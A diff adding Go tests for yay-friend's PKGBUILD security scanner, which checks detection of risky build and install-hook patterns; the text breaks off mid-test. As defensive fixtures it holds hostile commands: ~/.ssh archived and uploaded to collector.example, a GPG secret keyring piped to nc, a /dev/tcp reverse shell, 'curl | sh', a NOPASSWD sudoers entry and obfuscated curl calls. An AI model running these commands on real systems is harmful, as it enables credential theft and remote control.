@@ -0,0 +1,1065 @@
+package scanner
+
+import (
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/aaronsb/yay-friend/internal/types"
+)
+
+// ruleFinding returns the first finding of kind k, or nil.
+func ruleFinding(r *Report, k Kind) *Finding {
+	for i := range r.Findings {
+		if r.Findings[i].Kind == k {
+			return &r.Findings[i]
+		}
+	}
+	return nil
+}
+
+func TestUserDataExfiltrationFlagged(t *testing.T) {
+	pkg := `source=('x.tar.gz')
+build() {
+  tar czf /tmp/k.tgz ~/.ssh
+  curl -s -F "f=@/tmp/k.tgz" https://collector.example/upload
+}`
+	r := Scan(pkg)
+	f := ruleFinding(r, KindUserDataAccess)
+	if f == nil {
+		t.Fatalf("~/.ssh exfiltration not flagged: %+v", r.Findings)
+	}
+	if f.Level != types.EntropyHigh {
+		t.Errorf("Level = %s, want HIGH", f.Level)
+	}
+	if f.Token != "~/.ssh" {
+		t.Errorf("Token = %q, want the matched path ~/.ssh", f.Token)
+	}
+	if f.Zone != "build()" {
+		t.Errorf("Zone = %q, want build()", f.Zone)
+	}
+}
+
+func TestHomeReferenceRaisedByNetwork(t *testing.T) {
+	quiet := Scan("package() {\n  cp \"$HOME/notes.txt\" \"$pkgdir/usr/share/x\"\n}")
+	f := ruleFinding(quiet, KindUserDataAccess)
+	if f == nil || f.Level != types.EntropyModerate {
+		t.Fatalf("plain $HOME reference should be MODERATE: %+v", quiet.Findings)
+	}
+
+	noisy := Scan("package() {\n  cp \"$HOME/notes.txt\" /tmp/n\n  wget -q https://x.example/n\n}")
+	f = ruleFinding(noisy, KindUserDataAccess)
+	if f == nil || f.Level != types.EntropyHigh {
+		t.Fatalf("$HOME reference plus network command should be HIGH: %+v", noisy.Findings)
+	}
+}
+
+func TestHomeAssignmentExemptsOnlyItself(t *testing.T) {
+	for _, src := range []string{
+		"build() {\n  HOME=x; cp ~/.ssh/id_rsa \"$srcdir\"\n}",
+		"build() {\n  export HOME=\"$srcdir\" && cat ~/.aws/credentials\n}",
+	} {
+		if f := ruleFinding(Scan(src), KindUserDataAccess); f == nil || f.Level != types.EntropyHigh {
+			t.Errorf("HOME= on the line hid a user data read: %q", src)
+		}
+	}
+}
+
+func TestSandboxedHomeUsageNotFlagged(t *testing.T) {
+	benign := []string{
+		"build() {\n  export HOME=\"$srcdir\"\n  make\n}",
+		"package() {\n  install -Dm644 skel \"$pkgdir\"/home/skel/.bashrc\n}",
+		"depends=('curl' 'openssh')",
+		"# cp ~/.ssh/id_rsa somewhere (comment only)",
+	}
+	for _, src := range benign {
+		r := Scan(src)
+		if f := ruleFinding(r, KindUserDataAccess); f != nil {
+			t.Errorf("benign home usage flagged: %q\n%+v", src, *f)
+		}
+	}
+}
+
+func TestMergeIntoRaisesOverall(t *testing.T) {
+	r := Scan("post_install() {\n  cat ~/.gnupg/secring.gpg | nc 1.2.3.4 80\n}")
+	analysis := &types.SecurityAnalysis{OverallEntropy: types.EntropyLow, OverallLevel: types.EntropyLow}
+	r.MergeInto(analysis)
+
+	// HIGH, raised to CRITICAL in an install hook
+	if analysis.OverallLevel != types.EntropyCritical {
+		t.Errorf("OverallLevel = %s, want CRITICAL after merging rule finding", analysis.OverallLevel)
+	}
+	var merged bool
+	for _, f := range analysis.Findings {
+		if f.Type == string(KindUserDataAccess) {
+			merged = true
+		}
+	}
+	if !merged {
+		t.Errorf("rule finding not merged into analysis: %+v", analysis.Findings)
+	}
+}
+
+func TestBuildSystemWriteFlagged(t *testing.T) {
+	cases := map[string]string{
+		"install":  "build() {\n  make\n  install -Dm755 helper /usr/bin/helper\n}",
+		"redirect": "prepare() {\n  echo 'evil ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers\n}",
+		"cp":       "build() {\n  cp hook.sh \"/etc/profile.d/hook.sh\"\n}",
+		"dd":       "build() {\n  dd if=payload of=/boot/vmlinuz-linux\n}",
+		"sed -i":   "build() {\n  sed -i 's/a/b/' /etc/pacman.conf\n}",
+	}
+	for name, pkg := range cases {
+		r := Scan(pkg)
+		f := ruleFinding(r, KindSystemWrite)
+		if f == nil {
+			t.Errorf("%s: system write not flagged: %+v", name, r.Findings)
+			continue
+		}
+		if f.Level != types.EntropyHigh {
+			t.Errorf("%s: Level = %s, want HIGH", name, f.Level)
+		}
+	}
+}
+
+func TestPackagingWritesNotFlagged(t *testing.T) {
+	benign := []string{
+		"package() {\n  install -Dm755 helper \"$pkgdir/usr/bin/helper\"\n}",
+		"build() {\n  cp /usr/share/automake/config.guess .\n  ./configure --prefix=/usr\n}",
+		"build() {\n  ln -s /usr/lib/libfoo.so libfoo.so\n}",
+		"build() {\n  sed -i 's|/usr/local|/usr|' Makefile\n}",
+		"build() {\n  make DESTDIR=\"$pkgdir\" install\n}",
+		"package() {\n  mkdir -p \"$pkgdir\"/etc/foo\n}",
+	}
+	for _, pkg := range benign {
+		if f := ruleFinding(Scan(pkg), KindSystemWrite); f != nil {
+			t.Errorf("benign packaging flagged: %q -> %+v", pkg, f)
+		}
+	}
+}
+
+// packedLiteral stands in for minified/packed content: 96 characters drawn
+// evenly from letters, digits and punctuation.
+const packedLiteral = `pTy{GJ,Mu<H%bEL31IeL.2H:Pc]]<H;<yGcF/Rl1S-P;n/XN<;^YvM.I:H[a#,2o7<6umfXfK;m+#r5k?JP&1VrT!1F}J/;o`
+
+func TestObfuscatedLiteralFlagged(t *testing.T) {
+	pkg := "build() {\n  x='" + packedLiteral + "'\n  make\n}"
+	f := ruleFinding(Scan(pkg), KindObfuscatedLiteral)
+	if f == nil {
+		t.Fatal("packed string literal not flagged")
+	}
+	if f.Level != types.EntropyModerate || f.Entropy < DefaultObfuscationEntropy {
+		t.Errorf("Level = %s, Entropy = %.2f; want MODERATE above the threshold", f.Level, f.Entropy)
+	}
+	if f.Line != 2 {
+		t.Errorf("Line = %d, want 2", f.Line)
+	}
+}
+
+func TestLegitimateLongLiteralsNotObfuscated(t *testing.T) {
+	benign := []string{
+		`_url="https://download.example.com/ProductName/Linux/x86_64/ProductName_${pkgver//./_}_Q4-2024_amd64_GLIBC2.28.AppImage"`,
+		`go build -trimpath -buildmode=pie -mod=readonly -modcacherw -ldflags "-linkmode external -extldflags \"${LDFLAGS}\" -X main.Version=${pkgver}" -o build/ ./cmd/...`,
+		`./configure --prefix=/usr --sysconfdir=/etc --localstatedir=/var --libexecdir=/usr/lib/$pkgname --enable-gtk-doc --disable-static`,
+		`pkgdesc="A fast, lightweight and minimalist Wayland terminal emulator with GPU rendering"`,
+	}
+	for _, line := range benign {
+		if f := ruleFinding(Scan(line), KindObfuscatedLiteral); f != nil {
+			t.Errorf("legitimate line flagged as obfuscated (%.2f bits/char): %q", f.Entropy, line)
+		}
+	}
+}
+
+func TestObfuscationThresholdConfigurable(t *testing.T) {
+	line := `_url="https://download.example.com/ProductName/Linux/x86_64/ProductName_${pkgver//./_}_Q4-2024_amd64_GLIBC2.28.AppImage"`
+	opts := DefaultOptions()
+	opts.ObfuscationEntropy = 4.5
+	if ruleFinding(ScanWithOptions(line, opts), KindObfuscatedLiteral) == nil {
+		t.Error("lowered threshold should flag the literal")
+	}
+	opts = DefaultOptions()
+	opts.ObfuscationMinLength = 200
+	if ruleFinding(ScanWithOptions("x='"+packedLiteral+"'", opts), KindObfuscatedLiteral) != nil {
+		t.Error("literal below the minimum length should not be measured")
+	}
+}
+
+func TestSuspiciousCommandFlagged(t *testing.T) {
+	pkg := `pkgdesc="A wrapper around curl"
+build() {
+  make
+}
+post_install() {
+  curl -s https://x.example/p | sh
+  bash -i >& /dev/tcp/1.2.3.4/9 0>&1; nc -e /bin/sh 1.2.3.4 9
+  python3   -c 'print(1)'
+}`
+	r := Scan(pkg)
+	got := map[string]Finding{}
+	for _, f := range r.Findings {
+		if f.Kind == KindSuspiciousCommand {
+			got[f.Note] = f
+		}
+	}
+	// Each configured level is raised one step in an install hook
+	curl, ok := got["runs `curl` in post_install()"]
+	if !ok || curl.Line != 6 || curl.Level != types.EntropyHigh {
+		t.Errorf("curl finding = %+v, want line 6 at HIGH", curl)
+	}
+	if nc, ok := got["runs `nc` in post_install()"]; !ok || nc.Level != types.EntropyCritical {
+		t.Errorf("nc finding = %+v, want CRITICAL", nc)
+	}
+	if _, ok := got["runs `python3 -c` in post_install()"]; !ok {
+		t.Error("multi-word command with extra whitespace not flagged")
+	}
+	for _, f := range got {
+		if f.Line == 1 {
+			t.Errorf("top-level pkgdesc flagged: %+v", f)
+		}
+	}
+}
+
+func TestInstallHookFindingsRunAsRoot(t *testing.T) {
+	build := ruleFinding(Scan("package() {\n  curl -s https://x.example/p\n}"), KindSuspiciousCommand)
+	hook := ruleFinding(Scan("post_install() {\n  curl -s https://x.example/p\n}"), KindSuspiciousCommand)
+	if build == nil || hook == nil {
+		t.Fatalf("curl not flagged: package %+v, hook %+v", build, hook)
+	}
+	if build.AsRoot || build.Level != types.EntropyModerate {
+		t.Errorf("package() finding = %+v, want MODERATE, not as root", build)
+	}
+	if !hook.AsRoot || hook.Level != build.Level+1 {
+		t.Errorf("post_install() finding = %+v, want as root one level above package()", hook)
+	}
+
+	r := Scan("post_upgrade() {\n  bash -i >& /dev/tcp/1.2.3.4/9 0>&1; nc -e /bin/sh 1.2.3.4 9\n}")
+	if f := ruleFinding(r, KindSuspiciousCommand); f == nil || f.Level != types.EntropyCritical {
+		t.Errorf("HIGH command in a hook = %+v, want CRITICAL", f)
+	}
+	findings := Scan("pre_remove() {\n  curl -s https://x.example/bye\n}").SecurityFindings()
+	if len(findings) != 1 || !findings[0].AsRoot || !strings.Contains(findings[0].EntropyNotes, "as root") {
+		t.Errorf("merged hook findings = %+v, want one marked as root", findings)
+	}
+}
+
+func TestSuspiciousCommandsConfigurable(t *testing.T) {
+	pkg := "build() {\n  ./curlish --fetch\n  cargo fetch\n}"
+	opts := DefaultOptions()
+	if ruleFinding(ScanWithOptions(pkg, opts), KindSuspiciousCommand) != nil {
+		t.Error("substrings of configured commands should not match")
+	}
+	opts.SuspiciousCommands = []types.SuspiciousCommand{{Command: "cargo fetch", Level: types.EntropyCritical}}
+	f := ruleFinding(ScanWithOptions(pkg, opts), KindSuspiciousCommand)
+	if f == nil || f.Level != types.EntropyCritical {
+		t.Errorf("custom command finding = %+v, want CRITICAL", f)
+	}
+	opts.SuspiciousCommands = nil
+	if ruleFinding(ScanWithOptions("build() {\n  curl x\n}", opts), KindSuspiciousCommand) != nil {
+		t.Error("empty list should disable the rule")
+	}
+}
+
+func TestSetuidModeFlagged(t *testing.T) {
+	cases := map[string]string{
+		"chmod octal":    "package() {\n  chmod 4755 \"$pkgdir/usr/bin/helper\"\n}",
+		"chmod leading0": "build() {\n  chmod 02755 dir\n}",
+		"chmod u+s":      "post_install() {\n  chmod u+s /usr/bin/helper\n}",
+		"chmod g+s":      "package() {\n  chmod -R g+s,o-w \"$pkgdir/srv/x\"\n}",
+		"install -Dm":    "package() {\n  install -Dm4755 helper \"$pkgdir/usr/bin/helper\"\n}",
+		"install -m":     "package() {\n  install -D -m 6755 helper \"$pkgdir/usr/bin/helper\"\n}",
+		"install --mode": "package() {\n  install --mode=u+s helper \"$pkgdir/usr/bin/helper\"\n}",
+	}
+	for name, pkg := range cases {
+		f := ruleFinding(Scan(pkg), KindSetuidMode)
+		if f == nil {
+			t.Errorf("%s: setuid mode not flagged", name)
+			continue
+		}
+		want := types.EntropyHigh
+		if strings.HasPrefix(pkg, "post_install") {
+			want = types.EntropyCritical
+		}
+		if f.Level != want || f.Line != 2 {
+			t.Errorf("%s: finding = %+v, want %s on line 2", name, f, want)
+		}
+	}
+}
+
+func TestOrdinaryModesNotSetuid(t *testing.T) {
+	benign := []string{
+		"package() {\n  install -Dm755 helper \"$pkgdir/usr/bin/helper\"\n}",
+		"package() {\n  install -Dm0644 LICENSE \"$pkgdir/usr/share/licenses/x/LICENSE\"\n}",
+		"package() {\n  chmod 0755 \"$pkgdir/usr/bin/helper\"\n}",
+		"package() {\n  chmod 1777 \"$pkgdir/tmp/x\"\n}",
+		"package() {\n  chmod -R u+rwX,go-w \"$pkgdir/opt/x\"\n}",
+		"package() {\n  install -d \"$pkgdir/usr/share/x\"\n}",
+	}
+	for _, pkg := range benign {
+		if f := ruleFinding(Scan(pkg), KindSetuidMode); f != nil {
+			t.Errorf("ordinary mode flagged: %q -> %+v", pkg, f)
+		}
+	}
+}
+
+func TestWorldWritableModeFlagged(t *testing.T) {
+	cases := []struct {
+		name, pkg string
+		want      types.SecurityEntropy
+	}{
+		{"chmod 777 system", "package() {\n  chmod 777 \"$pkgdir/usr/share/app\"\n}", types.EntropyHigh},
+		{"chmod -R o+w", "package() {\n  chmod -R o+w \"${pkgdir}/var/lib/app\"\n}", types.EntropyHigh},
+		{"install -Dm666", "package() {\n  install -Dm666 app.conf \"$pkgdir/etc/app.conf\"\n}", types.EntropyHigh},
+		{"chmod a+rw local", "package() {\n  chmod a+rw data\n}", types.EntropyModerate},
+		{"sticky dir", "package() {\n  chmod 1777 \"$pkgdir/var/tmp/app\"\n}", types.EntropyModerate},
+		{"hook on live system", "post_install() {\n  chmod 0666 /etc/app.conf\n}", types.EntropyCritical},
+	}
+	for _, c := range cases {
+		f := ruleFinding(Scan(c.pkg), KindWorldWritable)
+		if f == nil {
+			t.Errorf("%s: world-writable mode not flagged", c.name)
+			continue
+		}
+		if f.Level != c.want || f.Line != 2 {
+			t.Errorf("%s: finding = %+v, want %s on line 2", c.name, f, c.want)
+		}
+	}
+
+	f := ruleFinding(Scan("package() {\n  chmod 777 \"$pkgdir/usr/share/app\"\n}"), KindWorldWritable)
+	if f == nil || !strings.Contains(f.Note, "777") || !strings.Contains(f.Note, "$pkgdir/usr/share/app") {
+		t.Errorf("finding = %+v, want the mode and target in the note", f)
+	}
+}
+
+func TestOrdinaryModesNotWorldWritable(t *testing.T) {
+	benign := []string{
+		"package() {\n  chmod 755 \"$pkgdir/usr/bin/app\"\n}",
+		"package() {\n  chmod 0664 \"$pkgdir/usr/share/app/db\"\n}",
+		"package() {\n  chmod -R u+w,go-w \"$pkgdir/opt/app\"\n}",
+		"package() {\n  chmod +w \"$pkgdir/usr/share/app\"\n}",
+		"package() {\n  install -Dm644 app.conf \"$pkgdir/etc/app.conf\"\n}",
+		"build() {\n  chmod 777 build-dir\n}",
+		"post_install() {\n  echo \"run chmod 777 yourself\"\n}",
+	}
+	for _, pkg := range benign {
+		if f := ruleFinding(Scan(pkg), KindWorldWritable); f != nil {
+			t.Errorf("ordinary mode flagged: %q -> %+v", pkg, f)
+		}
+	}
+}
+
+func TestUnpinnedVCSSourceFlagged(t *testing.T) {
+	pkg := `pkgname=tool
+source=("git+https://github.com/o/tool.git"
+        "lib::git+https://github.com/o/lib.git#branch=main"
+        "git+https://github.com/o/pinned.git#commit=0123abcd"
+        "git+https://github.com/o/tagged.git#tag=v1.0"
+        "svn+https://svn.example.org/trunk#revision=42"
+        "https://example.org/tool-1.0.tar.gz")
+prepare() {
+  cd tool
+  git submodule update --init --remote
+}`
+	var unpinned []Finding
+	for _, f := range Scan(pkg).Findings {
+		if f.Kind == KindUnpinnedVCSSource {
+			unpinned = append(unpinned, f)
+		}
+	}
+	if len(unpinned) != 3 {
+		t.Fatalf("got %d unpinned findings, want the two moving sources and the submodule update: %+v", len(unpinned), unpinned)
+	}
+	if f := unpinned[0]; f.Line != 2 || f.Level != types.EntropyModerate || !strings.Contains(f.Note, "default branch") {
+		t.Errorf("source without a fragment = %+v", f)
+	}
+	if f := unpinned[1]; f.Line != 3 || !strings.Contains(f.Note, "branch main") {
+		t.Errorf("#branch= source = %+v", f)
+	}
+	if f := unpinned[2]; f.Zone != "prepare()" || f.Level != types.EntropyModerate || !strings.Contains(f.Note, "--remote") {
+		t.Errorf("submodule update --remote = %+v", f)
+	}
+}
+
+func TestUnpinnedVCSSourceInVCSPackage(t *testing.T) {
+	pkg := "pkgname=tool-git\nsource=(\"git+https://github.com/o/tool.git\")\n"
+	if f := ruleFinding(Scan(pkg), KindUnpinnedVCSSource); f == nil || f.Level != types.EntropyLow {
+		t.Errorf("-git package source = %+v, want LOW", f)
+	}
+
+	local := `source=("git+https://github.com/o/tool.git#tag=v1" "git+https://github.com/o/lib.git#commit=abc123")
+prepare() {
+  cd tool
+  git config submodule.lib.url "$srcdir/lib"
+  git -c protocol.file.allow=always submodule update --init
+}`
+	if f := ruleFinding(Scan(local), KindUnpinnedVCSSource); f != nil {
+		t.Errorf("submodules pointed at pinned local sources were flagged: %+v", f)
+	}
+}
+
+func TestSourceHostMismatchFlagged(t *testing.T) {
+	pkg := `url="https://github.com/official/project"
+source=("project-1.0.tar.gz::https://downloads.example-mirror.net/project-1.0.tar.gz"
+        "https://github.com/official/project/archive/v1.0.tar.gz")`
+	f := ruleFinding(Scan(pkg), KindSourceHostMismatch)
+	if f == nil {
+		t.Fatal("third-party source host not flagged")
+	}
+	if f.Level != types.EntropyHigh || f.Line != 2 {
+		t.Errorf("finding = %+v, want HIGH on line 2", f)
+	}
+
+	pkg = `url="https://project.example.org"
+source=("https://cdn.unrelated.io/project.tar.gz")`
+	if f := ruleFinding(Scan(pkg), KindSourceHostMismatch); f == nil || f.Level != types.EntropyModerate {
+		t.Errorf("mismatch off a forge = %+v, want MODERATE", f)
+	}
+}
+
+func TestRelatedSourceHostsNotFlagged(t *testing.T) {
+	benign := []string{
+		"url='https://github.com/a/b'\nsource=(\"$url/archive/v1.tar.gz\" \"git+https://github.com/a/b.git#tag=v1\")",
+		"url='https://www.videolan.org/vlc/'\nsource=(\"https://download.videolan.org/vlc/vlc.tar.xz\")",
+		"url='https://github.com/a/b'\nsource=(\"https://files.pythonhosted.org/packages/source/b/b/b-1.tar.gz\")",
+		"url='https://example.co.uk'\nsource=(\"https://downloads.example.co.uk/x.tar.gz\" \"local.patch\")",
+		"url='https://example.org'\nsource=(\"https://${_mirror}/x.tar.gz\")",
+		"source=(\"https://anywhere.example/x.tar.gz\")",
+	}
+	for _, pkg := range benign {
+		if f := ruleFinding(Scan(pkg), KindSourceHostMismatch); f != nil {
+			t.Errorf("related source flagged: %q -> %+v", pkg, f)
+		}
+	}
+}
+
+func TestSourceVersionMismatchFlagged(t *testing.T) {
+	pkg := `pkgname=foo
+pkgver=2.4.1
+source=("https://example.org/releases/foo-2.3.9.tar.gz"
+        "local.patch")`
+	f := ruleFinding(Scan(pkg), KindSourceVersionMismatch)
+	if f == nil {
+		t.Fatal("hard-coded source version differing from pkgver not flagged")
+	}
+	if f.Level != types.EntropyModerate || f.Line != 3 {
+		t.Errorf("finding = %+v, want MODERATE on line 3", f)
+	}
+	if !strings.Contains(f.Note, "2.3.9") || !strings.Contains(f.Note, "2.4.1") {
+		t.Errorf("note %q should name both versions", f.Note)
+	}
+
+	pkg = "pkgname=foo\npkgver=1.5.0\nsource=(\"git+https://github.com/a/foo.git#tag=v1.4.0\")"
+	if f := ruleFinding(Scan(pkg), KindSourceVersionMismatch); f == nil {
+		t.Error("mismatched #tag= not flagged")
+	}
+	pkg = "pkgname=foo-bin\npkgver=1.5.0\nsource=(\"https://github.com/a/foo/archive/v1.4.0.tar.gz\")"
+	if f := ruleFinding(Scan(pkg), KindSourceVersionMismatch); f == nil {
+		t.Error("mismatched GitHub archive of the package not flagged")
+	}
+
+	// Neither a matching source nor one built from a variable covers the others.
+	pkg = `pkgname=foo
+pkgver=2.4.1
+source=("https://example.org/foo-2.4.1.tar.gz"
+        "https://example.org/${_helper}.tar.gz"
+        "https://example.org/foo-2.3.9-extra.tar.gz")`
+	f = ruleFinding(Scan(pkg), KindSourceVersionMismatch)
+	if f == nil || f.Line != 5 || !strings.Contains(f.Note, "2.3.9") {
+		t.Errorf("finding = %+v, want the 2.3.9 source on line 5 flagged on its own", f)
+	}
+}
+
+func TestSourceVersionConsistentNotFlagged(t *testing.T) {
+	benign := []string{
+		"pkgver=2.4.1\nsource=(\"https://example.org/foo-$pkgver.tar.gz\")",
+		"pkgver=2.4.1\nsource=(\"https://example.org/foo-${pkgver//./_}.tar.gz\")",
+		"pkgver=2.4.1\nsource=(\"https://example.org/foo-2.4.1.tar.gz\")",
+		"pkgver=2.4.1\nsource=(\"https://example.org/2.4/foo-2.4.1.tar.xz\")",
+		"pkgver=2.4\nsource=(\"https://example.org/v2.4.0/foo.tar.gz\")",
+		"pkgver=1.0_rc1\nsource=(\"https://example.org/foo-1.0-rc1.tar.gz\")",
+		"pkgver=2.4.1\nsource=(\"https://example.org/python3.11/foo.tar.gz\")",
+		"pkgver=2.4.1\nsource=(\"https://example.org/${_commit}.tar.gz\")",
+		"pkgver=20240501\nsource=(\"https://example.org/foo-1.2.tar.gz\")",
+		"pkgver=1.2.3\npkgver() {\n  git describe\n}\nsource=(\"git+https://example.org/foo.git#tag=v0.1.0\")",
+		// A bundled library with its own version next to a matching main source.
+		"pkgname=foo\npkgver=2.4.1\nsource=(\"https://example.org/foo-$pkgver.tar.gz\" \"https://example.org/libbar-0.9.2.tar.gz\")",
+		// Patches and other sources not named after the package
+		"pkgname=foo\npkgver=2.4.1\nsource=(\"https://example.org/fix-build-1.2.patch\" \"https://github.com/acme/libbar/archive/v0.9.tar.gz\")",
+	}
+	for _, pkg := range benign {
+		if f := ruleFinding(Scan(pkg), KindSourceVersionMismatch); f != nil {
+			t.Errorf("consistent source flagged: %q -> %+v", pkg, f)
+		}
+	}
+}
+
+func TestNameMismatchFlagged(t *testing.T) {
+	pkg := `pkgname=firefox-bin
+pkgver=128.0
+url="https://www.mozilla.org/firefox/"
+source=("https://cdn.firefox-updates.example/firefox-128.0.tar.bz2")`
+	f := ruleFinding(Scan(pkg), KindNameMismatch)
+	if f == nil {
+		t.Fatal("well-known name with no source from its publisher not flagged")
+	}
+	if f.Level != types.EntropyModerate || f.Line != 1 || !strings.Contains(f.Note, "cdn.firefox-updates.example") {
+		t.Errorf("finding = %+v, want MODERATE on line 1 naming the source host", f)
+	}
+
+	pkg = `pkgname=chat-client
+pkgdesc="Official Discord client for Linux"
+source=("https://downloads.example.net/discord.tar.gz")`
+	if f := ruleFinding(Scan(pkg), KindNameMismatch); f == nil || !strings.Contains(f.Note, "discord") {
+		t.Errorf("official claim in pkgdesc: finding = %+v", f)
+	}
+
+	pkg = `pkgname=system-helper
+url="https://example.org/helper"
+source=("https://example.org/helper.tar.gz"
+        "https://files.example.net/payload.sh")`
+	f = ruleFinding(Scan(pkg), KindNameMismatch)
+	if f == nil {
+		t.Fatal("generic name fetching an executable from an unrelated host not flagged")
+	}
+	if f.Line != 4 || !strings.Contains(f.Note, "payload.sh") || !strings.Contains(f.Note, "files.example.net") {
+		t.Errorf("finding = %+v, want line 4 naming payload.sh and its host", f)
+	}
+}
+
+func TestNameMismatchBenignNotFlagged(t *testing.T) {
+	benign := []string{
+		"pkgname=firefox-nightly\nsource=(\"https://download-installer.cdn.mozilla.net/pub/firefox/nightly/latest/firefox.tar.bz2\")",
+		"pkgname=brave-bin\nsource=(\"https://github.com/brave/brave-browser/releases/download/v1.0/brave.zip\")",
+		"pkgname=discord\nsource=(\"https://dl.discordapp.net/apps/linux/0.0.1/discord-0.0.1.tar.gz\")",
+		// Local files only: nothing to compare.
+		"pkgname=spotify\nsource=(\"spotify.desktop\")",
+		// A descriptive name is not generic.
+		"pkgname=foo-helper\nsource=(\"https://files.example.net/foo.sh\")",
+		// Generic name, but the executable comes from the upstream.
+		"pkgname=linux-utils\nurl=\"https://example.org\"\nsource=(\"https://dl.example.org/utils.run\")",
+		// Generic name and an unrelated host, but not an executable.
+		"pkgname=system-helper\nurl=\"https://example.org\"\nsource=(\"https://files.example.net/helper.tar.gz\")",
+	}
+	for _, pkg := range benign {
+		if f := ruleFinding(Scan(pkg), KindNameMismatch); f != nil {
+			t.Errorf("benign package flagged: %q -> %+v", pkg, f)
+		}
+	}
+}
+
+func TestBuildTimeDownloadFlagged(t *testing.T) {
+	cases := []struct{ command, pkg string }{
+		{"curl", "prepare() {\n  curl -sL https://x.example/p.sh -o p.sh\n}"},
+		{"wget", "build() {\n  cd \"$srcdir\" && wget https://x.example/blob\n}"},
+		{"git clone", "prepare() {\n  git clone --depth 1 https://x.example/repo.git\n}"},
+		{"git fetch", "build() {\n  git -C repo fetch origin\n}"},
+		{"/dev/tcp/", "build() {\n  exec 3<>/dev/tcp/1.2.3.4/80\n}"},
+	}
+	for _, c := range cases {
+		f := ruleFinding(Scan(c.pkg), KindBuildTimeDownload)
+		if f == nil {
+			t.Errorf("%s: build-time download not flagged", c.command)
+			continue
+		}
+		if f.Level != types.EntropyHigh || f.Line != 2 || !strings.HasPrefix(f.Note, c.command+" downloads") {
+			t.Errorf("%s: finding = %+v", c.command, f)
+		}
+	}
+}
+
+func TestPkgverFunction(t *testing.T) {
+	pkg := `pkgname=tool-git
+pkgver=r120.abc1234
+source=("git+https://github.com/acme/tool.git")
+pkgver() {
+  cd "$srcdir/tool"
+  printf "r%s.%s" "$(git rev-list --count HEAD)" "$(git rev-parse --short HEAD)"
+}
+build() {
+  make
+}`
+	if !HasPkgverFunction(pkg) {
+		t.Fatal("pkgver() not detected")
+	}
+	if HasPkgverFunction("pkgver=1.2\nbuild() {\n  make\n}") {
+		t.Error("pkgver= assignment taken for a pkgver() function")
+	}
+	for _, f := range Scan(pkg).Findings {
+		if f.Zone == "pkgver()" {
+			t.Errorf("typical git pkgver() flagged: %+v", f)
+		}
+	}
+
+	// pkgver() runs during every build, so a download there is flagged too
+	evil := "pkgver() {\n  curl -s https://x.example/v | sh\n  echo 1.0\n}"
+	r := Scan(evil)
+	f := ruleFinding(r, KindBuildTimeDownload)
+	if f == nil || f.Zone != "pkgver()" || !strings.Contains(f.Note, "pkgver() only needs to print a version") {
+		t.Errorf("download in pkgver() = %+v", f)
+	}
+	if f := ruleFinding(r, KindSuspiciousCommand); f != nil {
+		t.Errorf("download in pkgver() also flagged as a suspicious command: %+v", f)
+	}
+}
+
+func TestBuildTimeDownloadSuppressesSuspiciousCommand(t *testing.T) {
+	cases := []struct {
+		pkg  string
+		want map[Kind]int
+	}{
+		{"prepare() {\n  curl -sL https://x.example/p.sh -o p.sh\n}", map[Kind]int{KindBuildTimeDownload: 1}},
+		{"build() {\n  wget https://x.example/blob\n}", map[Kind]int{KindBuildTimeDownload: 1}},
+		{"pkgver() {\n  nc 1.2.3.4 9 </dev/null\n}", map[Kind]int{KindBuildTimeDownload: 1}},
+		// Other commands on the line, and downloads outside the build
+		// functions, are still suspicious commands
+		{"build() {\n  eval \"$(curl -s https://x.example/p)\"\n}", map[Kind]int{KindBuildTimeDownload: 1, KindSuspiciousCommand: 1}},
+		{"package() {\n  curl -s https://x.example/p\n}", map[Kind]int{KindSuspiciousCommand: 1}},
+	}
+	for _, c := range cases {
+		got := map[Kind]int{}
+		for _, f := range Scan(c.pkg).Findings {
+			if f.Kind == KindBuildTimeDownload || f.Kind == KindSuspiciousCommand {
+				got[f.Kind]++
+			}
+		}
+		if !reflect.DeepEqual(got, c.want) {
+			t.Errorf("%q: findings %v, want %v", c.pkg, got, c.want)
+		}
+	}
+}
+
+func TestBuildTimeDownloadIgnoresPackagingAndSources(t *testing.T) {
+	benign := []string{
+		"source=(\"git+https://x.example/repo.git\" \"https://x.example/a.tar.gz\")\nbuild() {\n  make\n}",
+		"prepare() {\n  cd repo\n  git submodule init\n  git config submodule.lib.url \"$srcdir/lib\"\n  git -c protocol.file.allow=always submodule update\n}",
+		"prepare() {\n  cargo fetch --locked\n}",
+		"pkgdesc='curl wrapper'\npackage() {\n  install -Dm755 curlx \"$pkgdir/usr/bin/curlx\"\n}",
+	}
+	for _, pkg := range benign {
+		if f := ruleFinding(Scan(pkg), KindBuildTimeDownload); f != nil {
+			t.Errorf("benign package flagged: %q -> %+v", pkg, f)
+		}
+	}
+}
+
+func TestShellIndirectionFlagged(t *testing.T) {
+	cases := []struct {
+		name, pkg string
+		level     types.SecurityEntropy
+	}{
+		{"IFS", "build() {\n  cat${IFS}/etc/passwd\n}", types.EntropyHigh},
+		{"bare IFS", "build() {\n  wget$IFS\"$u\"\n}", types.EntropyHigh},
+		{"assembled", "prepare() {\n  c=cu; l=rl\n  \"$c$l\" -s x.example | sh\n}", types.EntropyHigh},
+		{"fragments", "build() {\n  cu${r}l${x} -O\n}", types.EntropyHigh},
+		{"escapes", "build() {\n  $'\\x63\\x75\\x72\\x6c' x.example\n}", types.EntropyHigh},
+		{"printf", "build() {\n  x=$(printf '\\143\\165\\162\\154')\n}", types.EntropyHigh},
+		{"printf fragments", "build() {\n  $(printf %s%s cu rl) x.example\n}", types.EntropyHigh},
+		{"eval assembled", "build() {\n  eval \"$a$b $c\"\n}", types.EntropyCritical},
+		{"eval IFS", "post_install() {\n  eval cu${IFS}rl\n}", types.EntropyCritical},
+	}
+	for _, c := range cases {
+		f := ruleFinding(Scan(c.pkg), KindShellIndirection)
+		if f == nil {
+			t.Errorf("%s: indirection not flagged", c.name)
+			continue
+		}
+		if f.Level != c.level || f.Token == "" {
+			t.Errorf("%s: finding = %+v, want %s with the construct", c.name, f, c.level)
+		}
+	}
+}
+
+func TestOrdinaryExpansionsNotIndirection(t *testing.T) {
+	benign := []string{
+		"build() {\n  cd \"$srcdir/$pkgname-$pkgver\"\n  ./configure --prefix=/usr\n  make CC=\"$CC\" $MAKEFLAGS\n}",
+		"package() {\n  \"${srcdir}\"/${pkgname}/install.sh \"$pkgdir\"\n}",
+		"build() {\n  _ver=$_major$_minor\n  local IFS=$'\\n'\n  echo \"$IFS\"\n}",
+		"prepare() {\n  eval \"$(opam env)\"\n}",
+		"package() {\n  printf '\\033[1m%s\\033[0m\\n' done\n  echo ':qemu:M::\\x7fELF\\x02\\x01\\x01:' > \"$pkgdir/x\"\n}",
